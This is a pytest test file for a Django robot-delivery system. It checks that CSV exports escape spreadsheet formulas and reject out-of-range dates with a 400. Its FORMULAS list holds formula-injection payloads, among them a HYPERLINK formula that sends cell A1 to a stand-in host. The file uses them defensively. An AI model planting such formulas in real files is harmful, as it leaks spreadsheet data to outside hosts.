"""CSV exports a spreadsheet opens as text (no formula runs), and far-future dates in their
queries refused naming the parameter instead of a 500."""

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from core.csvsafe import cell_safe
from reports.seed import history_seed
from robots.models import Waypoint
from scheduling.services import task_allocate
from tests import factories
from tests.scheduling.conftest import Beater, event, request, robot_ready

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"open")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def operator_client(operator):
    client = Client()
    client.force_login(operator)
    return client


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_custody_csv_writes_formulas_as_text(site, operator_client):
    dock = Waypoint.objects.get(site=site, code="1F-DOCK-2")
    robot = factories.robot_create(
        site, "R2", dock=dock, compartments=[{"code": "A", "lockable": True}]
    )
    robot_ready(robot)
    task = request(
        site, secure=True, contents=FORMULAS[0], sender=FORMULAS[1], receiver=FORMULAS[4]
    )
    task_allocate(task_id=task.pk)
    Beater(robot).beat(events=[event("loaded", task.code, 0, compartment="A")])
    today = timezone.localdate().isoformat()

    [_, row] = rows_of(operator_client.get(f"/custody.csv?from={today}&to={today}"))

    assert row[1:4] == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[4]]


def test_the_report_csvs_write_formulas_as_text(site, operator_client):
    Waypoint.objects.filter(site=site, code="2F-LAB").update(name="=1+2")
    factories.robot_create(site, "R1")
    history_seed(site=site, deliveries=30, days=2, end=timezone.now(), seed=2)

    rows = rows_of(operator_client.get("/reports/by_ward.csv"))

    wards = [row[0] for row in rows[1:]]
    assert "'=1+2" in wards
    assert "=1+2" not in wards


def test_every_formula_start_is_neutralised_and_numbers_are_kept():
    assert [cell_safe(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert [cell_safe(value) for value in ("Morphine", "", "a=b", -3, 2.5, None)] == [
        "Morphine",
        "",
        "a=b",
        -3,
        2.5,
        None,
    ]


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/custody.csv?from=9999-12-30&to=9999-12-31", "from"),
        ("/custody.csv?from=2026-11-01&to=9999-12-31", "to"),
        ("/custody.csv?from=0001-01-01&to=0001-01-02", "from"),
        ("/reports/per_day.csv?date_from=9999-12-01&date_to=9999-12-31", "date_from"),
        ("/reports/per_day.csv?date_to=9999-12-31", "date_to"),
    ],
)
def test_far_future_and_ancient_dates_are_refused_naming_the_parameter(
    site, operator_client, path, name
):
    response = operator_client.get(path)

    assert response.status_code == 400
    assert response.json()["error"] == "invalid"
    assert "must be between 2000-01-01" in response.json()["detail"][name][0]


def test_the_reports_page_refuses_far_future_dates_with_its_form(site, operator_client):
    page = operator_client.get("/reports/?date_from=9999-12-01&date_to=9999-12-31")

    assert page.status_code == 400
    assert "must be between 2000-01-01" in page.content.decode()
